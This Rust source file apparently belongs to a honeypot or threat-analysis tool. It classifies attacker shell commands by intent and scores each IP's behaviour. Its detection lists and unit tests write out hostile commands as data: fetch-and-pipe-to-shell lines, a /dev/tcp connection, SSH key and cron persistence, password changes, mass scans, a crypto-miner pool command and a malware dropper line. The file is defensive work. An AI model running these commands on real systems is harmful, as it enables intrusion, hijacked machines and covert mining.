//! Sorting attacker command lines into what they are for (reconnaissance, download,
//! execution, persistence, mining, lateral movement), and the per-IP behaviour score
//! built on those categories.
//!
//! Heuristics, not a shell parser: a line is split into simple commands on `;`, `&&`,
//! `||`, `|`, `&` and newlines, each command's program is found after assignments and
//! wrappers (`sudo`, `nohup`, `$(` …), and the program plus a few whole-line patterns
//! decide the categories.

use serde::Serialize;

/// What a command is for. Declared in priority order: the first category a line
/// shows is its primary one (the most telling of the attacker's intent).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum CommandCategory {
    Miner,
    Persistence,
    LateralMovement,
    Execution,
    Download,
    Recon,
    Other,
}

impl CommandCategory {
    pub fn as_str(self) -> &'static str {
        match self {
            CommandCategory::Miner => "miner",
            CommandCategory::Persistence => "persistence",
            CommandCategory::LateralMovement => "lateral_movement",
            CommandCategory::Execution => "execution",
            CommandCategory::Download => "download",
            CommandCategory::Recon => "recon",
            CommandCategory::Other => "other",
        }
    }
}

/// The categories of one command line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Categorized {
    /// The highest-priority category of `all`.
    pub primary: CommandCategory,
    /// Every category some part of the line shows, in priority order; `[other]` when none.
    pub all: Vec<CommandCategory>,
}

/// Attacker input is unbounded; the head of a line is enough to categorize it.
const MAX_ANALYZED_BYTES: usize = 64 * 1024;
/// Simple commands looked at per line.
const MAX_SEGMENTS: usize = 256;

/// Programs that only look around.
const RECON_PROGRAMS: &[&str] = &[
    "uname",
    "whoami",
    "id",
    "hostname",
    "hostnamectl",
    "ps",
    "ls",
    "w",
    "who",
    "last",
    "lastlog",
    "lscpu",
    "free",
    "df",
    "du",
    "uptime",
    "ifconfig",
    "ip",
    "/ip",
    "netstat",
    "ss",
    "nproc",
    "top",
    "lspci",
    "lsusb",
    "lsblk",
    "dmidecode",
    "history",
    "mount",
    "pwd",
    "env",
    "printenv",
    "locate",
    "arp",
    "route",
    "getconf",
    "groups",
    "dmesg",
    "systemctl",
    "service",
    "sysctl",
    "which",
    "type",
    "find",
];
/// Programs that read files: recon when they read system information.
const READER_PROGRAMS: &[&str] = &["cat", "head", "tail", "grep", "egrep", "more", "less", "awk", "sed"];
const SYSTEM_INFO_PATHS: &[&str] = &["/proc/", "/etc/", "/sys/", "/var/log/", "/home/", "~/"];
/// Programs that fetch from the network.
const DOWNLOAD_PROGRAMS: &[&str] =
    &["wget", "curl", "tftp", "ftpget", "ftp", "lwp-download", "fetch", "aria2c", "axel", "rsync"];
/// Interpreters and launchers: running one is executing code.
const EXECUTION_PROGRAMS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ash", "ksh", "perl", "python", "python2", "python3", "php", "ruby", "node", "exec",
    "source", ".", "eval", "setsid", "screen", "tmux",
];
/// Programs that change accounts or start-up.
const PERSISTENCE_PROGRAMS: &[&str] =
    &["crontab", "useradd", "adduser", "usermod", "passwd", "chpasswd", "chattr", "update-rc.d", "chkconfig", "visudo"];
/// Anywhere in a command: start-up files and key files.
const PERSISTENCE_PATTERNS: &[&str] = &[
    "authorized_keys",
    "rc.local",
    "/etc/cron",
    "/var/spool/cron",
    "/etc/init.d/",
    "/etc/systemd/system",
    "systemctl enable",
    ".bashrc",
    ".bash_profile",
    "/etc/profile",
    "/etc/sudoers",
    "/etc/shadow",
    "ld.so.preload",
];
/// Anywhere in a command: miners, their pools and options.
const MINER_PATTERNS: &[&str] = &[
    "xmrig",
    "minerd",
    "cpuminer",
    "stratum+tcp",
    "stratum+ssl",
    "stratum2+tcp",
    "nicehash",
    "cryptonight",
    "xmr-stak",
    "--donate-level",
    "randomx",
    "nanopool",
    "minexmr",
    "supportxmr",
    "c3pool",
    "moneroocean",
    "t-rex",
    "lolminer",
    "nbminer",
    "phoenixminer",
];
/// Scanners and remote-login helpers.
const LATERAL_PROGRAMS: &[&str] = &["sshpass", "nmap", "masscan", "zmap", "hydra", "medusa", "ncrack", "pssh"];
/// Directories attackers drop binaries into: running a program from them is execution.
const DROP_DIRS: &[&str] = &["./", "/tmp/", "/var/tmp/", "/dev/shm/", "/run/", "~/", "/root/", "/home/"];
/// Prefixes that run the program named next (`busybox wget …` runs the `wget` applet).
const WRAPPERS: &[&str] =
    &["busybox", "sudo", "nohup", "nice", "command", "time", "timeout", "stdbuf", "xargs", "then", "do", "else", "!"];

/// Categorizes one command line.
pub fn categorize(line: &str) -> Categorized {
    let line = head(line, MAX_ANALYZED_BYTES);
    let mut seen = [false; 7];
    for segment in split_commands(line).take(MAX_SEGMENTS) {
        for category in segment_categories(segment) {
            seen[category as usize] = true;
        }
    }
    let mut all: Vec<CommandCategory> =
        ALL_IN_PRIORITY.iter().copied().filter(|c| *c != CommandCategory::Other && seen[*c as usize]).collect();
    if all.is_empty() {
        all.push(CommandCategory::Other);
    }
    Categorized { primary: all[0], all }
}

const ALL_IN_PRIORITY: [CommandCategory; 7] = [
    CommandCategory::Miner,
    CommandCategory::Persistence,
    CommandCategory::LateralMovement,
    CommandCategory::Execution,
    CommandCategory::Download,
    CommandCategory::Recon,
    CommandCategory::Other,
];

fn head(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

/// Simple commands: split on `;`, `&`, `|` (so also `&&`, `||`) and line breaks.
fn split_commands(line: &str) -> impl Iterator<Item = &str> {
    line.split([';', '&', '|', '\n', '\r']).map(str::trim).filter(|s| !s.is_empty())
}

/// The program of a simple command and its arguments: leading `NAME=value`
/// assignments, grouping (`(`, `{`, `$(`, backquote) and wrappers are skipped.
fn program_and_args(segment: &str) -> Option<(String, Vec<&str>)> {
    let mut words = segment.split_whitespace().peekable();
    let mut after_wrapper = false;
    while let Some(word) = words.next() {
        // `sudo -n id`: a wrapper's options come before the program.
        if after_wrapper && word.starts_with('-') {
            continue;
        }
        let mut word = word.trim_start_matches(['(', '{', '`', '$', '(']);
        // `x=$(uname -m` → `uname`; a plain assignment `X=1` names no program.
        if let Some((name, value)) = word.split_once('=') {
            if !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
                word = value.trim_start_matches(['(', '{', '`', '$', '(', '"', '\'']);
            }
        }
        let word = word.trim_end_matches([')', '}', '`']);
        if word.is_empty() {
            continue;
        }
        let lower = word.to_ascii_lowercase();
        if WRAPPERS.contains(&lower.as_str()) {
            // `timeout 10 cmd`: skip the wrapper's numeric argument too.
            if lower == "timeout" && words.peek().is_some_and(|w| w.bytes().all(|b| b.is_ascii_digit() || b == b's')) {
                words.next();
            }
            after_wrapper = true;
            continue;
        }
        return Some((lower, words.collect()));
    }
    None
}

fn basename(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

fn segment_categories(segment: &str) -> Vec<CommandCategory> {
    let mut found = Vec::new();
    let lower = segment.to_ascii_lowercase();
    if MINER_PATTERNS.iter().any(|p| lower.contains(p)) {
        found.push(CommandCategory::Miner);
    }
    if PERSISTENCE_PATTERNS.iter().any(|p| lower.contains(p)) {
        found.push(CommandCategory::Persistence);
    }
    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
        found.push(CommandCategory::Download);
    }
    let Some((program, args)) = program_and_args(segment) else { return found };
    let name = basename(&program);
    // A program run from a path (`./x`, `/tmp/x`) rather than from PATH was put there.
    let from_drop_dir = DROP_DIRS.iter().any(|d| program.starts_with(d)) && !program.ends_with('/');

    if name == "chmod" && args.iter().any(|a| makes_executable(a)) {
        found.push(CommandCategory::Execution);
    }
    if from_drop_dir || EXECUTION_PROGRAMS.contains(&name) {
        found.push(CommandCategory::Execution);
    }
    if DOWNLOAD_PROGRAMS.contains(&name) {
        found.push(CommandCategory::Download);
    }
    if PERSISTENCE_PROGRAMS.contains(&name) {
        // Listing a crontab only looks.
        if name == "crontab" && args.first() == Some(&"-l") {
            found.push(CommandCategory::Recon);
        } else {
            found.push(CommandCategory::Persistence);
        }
    }
    if LATERAL_PROGRAMS.contains(&name) {
        found.push(CommandCategory::LateralMovement);
    }
    if matches!(name, "ssh" | "scp" | "rsync") && args.iter().any(|a| names_remote_host(a)) {
        found.push(CommandCategory::LateralMovement);
        if name == "scp" {
            found.push(CommandCategory::Download);
        }
    }
    if name == "ssh" && args.iter().all(|a| a.starts_with('-')) {
        // `ssh -V`: which client is installed.
        found.push(CommandCategory::Recon);
    }
    if RECON_PROGRAMS.contains(&name) && !(name == "systemctl" && args.first() == Some(&"enable")) {
        found.push(CommandCategory::Recon);
    }
    if READER_PROGRAMS.contains(&name) && args.iter().any(|a| SYSTEM_INFO_PATHS.iter().any(|p| a.contains(p))) {
        found.push(CommandCategory::Recon);
    }
    found
}

/// `+x`, `u+x`, `a+rwx`, `755`, `777` …
fn makes_executable(arg: &str) -> bool {
    if arg.starts_with('-') {
        return false;
    }
    if arg.contains("+x") || (arg.contains('+') && arg.contains('x') && !arg.contains('/')) {
        return true;
    }
    // Octal modes: any digit with the execute bit.
    (3..=4).contains(&arg.len())
        && arg.bytes().all(|b| (b'0'..=b'7').contains(&b))
        && arg.bytes().any(|b| (b - b'0') & 1 == 1)
}

/// `user@host`, `host:path`, `user@host:path`.
fn names_remote_host(arg: &str) -> bool {
    !arg.starts_with('-')
        && (arg.contains('@') || arg.split_once(':').is_some_and(|(host, _)| !host.is_empty() && !host.contains('/')))
}

/// What an IP did, as counted by the store, for [`behaviour_score`].
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Behaviour {
    pub login_attempts: u64,
    pub successful_logins: u64,
    pub commands: u64,
    /// Files fetched (`file_download`) or pushed (`file_upload`).
    pub files: u64,
    pub categories: Vec<CommandCategory>,
}

/// How dangerous an IP's behaviour was, 0–100:
///
/// | behaviour | points |
/// | --- | --- |
/// | login attempts | 1 per 10 attempts, at most 10 |
/// | any successful login | 15 |
/// | commands run | 1 per command, at most 10 |
/// | any file downloaded or uploaded | 15 |
/// | recon command | 5 |
/// | download command | 15 |
/// | execution command | 15 |
/// | lateral movement command | 20 |
/// | persistence command | 25 |
/// | miner command | 30 |
///
/// The sum is capped at 100. Brute force alone stays at or below 10; a login that runs a
/// dropped binary reaches 40 and more; a miner install with persistence saturates.
pub fn behaviour_score(behaviour: &Behaviour) -> u8 {
    let mut score: u64 = (behaviour.login_attempts / 10).min(10);
    if behaviour.successful_logins > 0 {
        score += 15;
    }
    score += behaviour.commands.min(10);
    if behaviour.files > 0 {
        score += 15;
    }
    for category in ALL_IN_PRIORITY.iter().filter(|c| behaviour.categories.contains(c)) {
        score += match category {
            CommandCategory::Recon => 5,
            CommandCategory::Download | CommandCategory::Execution => 15,
            CommandCategory::LateralMovement => 20,
            CommandCategory::Persistence => 25,
            CommandCategory::Miner => 30,
            CommandCategory::Other => 0,
        };
    }
    score.min(100) as u8
}

#[cfg(test)]
mod tests {
    use super::CommandCategory::*;
    use super::*;

    fn primary(line: &str) -> CommandCategory {
        categorize(line).primary
    }

    #[test]
    fn recon_commands() {
        for line in [
            "uname -a",
            "uname -s -v -n -r -m",
            "whoami",
            "id",
            "cat /proc/cpuinfo",
            "ps aux | head -10",
            "ls -la /",
            "w",
            "lscpu",
            "free -m",
            "/ip cloud print",
            "crontab -l",
            "ssh -V",
            "grep -c ^processor /proc/cpuinfo",
            "uname=$(uname -s -v -n -m 2>/dev/null)",
            "sudo -n id",
        ] {
            assert_eq!(primary(line), Recon, "{line:?}");
        }
    }

    #[test]
    fn download_commands() {
        for line in [
            "wget http://203.0.113.5/x.sh",
            "cd /tmp && curl -O http://203.0.113.5/bins.sh",
            "tftp -g -r mips 203.0.113.5",
            "busybox ftpget 203.0.113.5 a a",
            "exec 3<>/dev/tcp/203.0.113.5/80",
        ] {
            assert!(categorize(line).all.contains(&Download), "{line:?}: {:?}", categorize(line));
        }
        assert_eq!(primary("wget http://203.0.113.5/x.sh"), Download);
    }

    #[test]
    fn execution_commands() {
        for line in [
            "chmod +x x",
            "chmod 777 /tmp/x",
            "./x",
            "/tmp/.x/run -o a",
            "sh x.sh",
            "bash -c 'echo hi'",
            "perl -e 'print 1'",
            "python3 -c 'import os'",
            "nohup ./kworker &",
        ] {
            assert_eq!(primary(line), Execution, "{line:?}");
        }
        assert_eq!(primary("chmod 644 notes.txt"), Other);
    }

    #[test]
    fn persistence_commands() {
        for line in [
            "crontab -r",
            "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
            "systemctl enable kworker",
            "echo /tmp/x >> /etc/rc.local",
            "useradd -m admin2",
            "echo root:pw | chpasswd",
            "passwd",
            "chattr +i ~/.ssh/authorized_keys",
        ] {
            assert_eq!(primary(line), Persistence, "{line:?}");
        }
    }

    #[test]
    fn miner_commands() {
        for line in [
            "./xmrig -o stratum+tcp://pool.example:3333 -u wallet",
            "minerd -a cryptonight",
            "nohup ./cpuminer &",
            "curl http://x/nicehash.sh | sh",
        ] {
            assert_eq!(primary(line), Miner, "{line:?}");
        }
        // Looking for a rival miner is recon, not mining.
        assert_eq!(primary("ps -ef | grep '[Mm]iner'"), Recon);
    }

    #[test]
    fn lateral_movement_commands() {
        for line in [
            "ssh root@198.51.100.7",
            "scp x.sh admin@198.51.100.7:/tmp/",
            "sshpass -p 123456 ssh root@198.51.100.7",
            "nmap -p22 198.51.100.0/24",
            "masscan -p22 0.0.0.0/0 --rate 10000",
        ] {
            assert_eq!(primary(line), LateralMovement, "{line:?}");
        }
    }

    #[test]
    fn other_commands() {
        for line in ["echo -e \"\\x6F\\x6B\"", "cd /home", "exit", "", "   ", "export X=1"] {
            assert_eq!(categorize(line).all, vec![Other], "{line:?}");
        }
    }

    #[test]
    fn a_chain_reports_every_category_and_the_most_telling_as_primary() {
        let c = categorize("cd /tmp; wget http://203.0.113.5/x; chmod +x x; ./x; uname -a");
        assert_eq!(c.all, vec![Execution, Download, Recon]);
        assert_eq!(c.primary, Execution);
        let c = categorize("uname -a\ncurl -s http://h/m | bash\necho '* * * * * /tmp/m' | crontab -");
        assert_eq!(c.all, vec![Persistence, Execution, Download, Recon]);
        assert_eq!(c.primary, Persistence);
        let c = categorize("wget x || curl x && ./xmrig");
        assert_eq!(c.primary, Miner);
        assert!(c.all.contains(&Download) && c.all.contains(&Execution));
    }

    #[test]
    fn the_real_sshd_dropper_is_execution() {
        let c = categorize("chmod +x ./.7338981714643205777/sshd;nohup ./.7338981714643205777/sshd 115.231.181.61 &");
        assert_eq!(c.primary, Execution);
    }

    #[test]
    fn huge_input_is_bounded() {
        let line = "uname;".repeat(100_000) + "xmrig";
        // The tail beyond the analyzed head is not seen.
        assert_eq!(categorize(&line).all, vec![Recon]);
        let multibyte = "é".repeat(MAX_ANALYZED_BYTES);
        assert_eq!(categorize(&multibyte).primary, Other);
    }

    #[test]
    fn score_follows_the_documented_weights() {
        assert_eq!(behaviour_score(&Behaviour::default()), 0);
        let brute = Behaviour { login_attempts: 57, ..Behaviour::default() };
        assert_eq!(behaviour_score(&brute), 5);
        let brute = Behaviour { login_attempts: 10_000, ..Behaviour::default() };
        assert_eq!(behaviour_score(&brute), 10);
        let recon = Behaviour {
            login_attempts: 3,
            successful_logins: 1,
            commands: 4,
            files: 0,
            categories: vec![Recon, Other],
        };
        assert_eq!(behaviour_score(&recon), 15 + 4 + 5);
        let dropper =
            Behaviour { login_attempts: 1, successful_logins: 1, commands: 2, files: 1, categories: vec![Execution] };
        assert_eq!(behaviour_score(&dropper), 15 + 2 + 15 + 15);
        let everything = Behaviour {
            login_attempts: 500,
            successful_logins: 5,
            commands: 50,
            files: 3,
            categories: vec![Miner, Persistence, LateralMovement, Execution, Download, Recon],
        };
        assert_eq!(behaviour_score(&everything), 100);
        // Each category counts once, however often it is listed.
        let repeated = Behaviour { categories: vec![Recon, Recon, Recon], ..Behaviour::default() };
        assert_eq!(behaviour_score(&repeated), 5);
    }
}
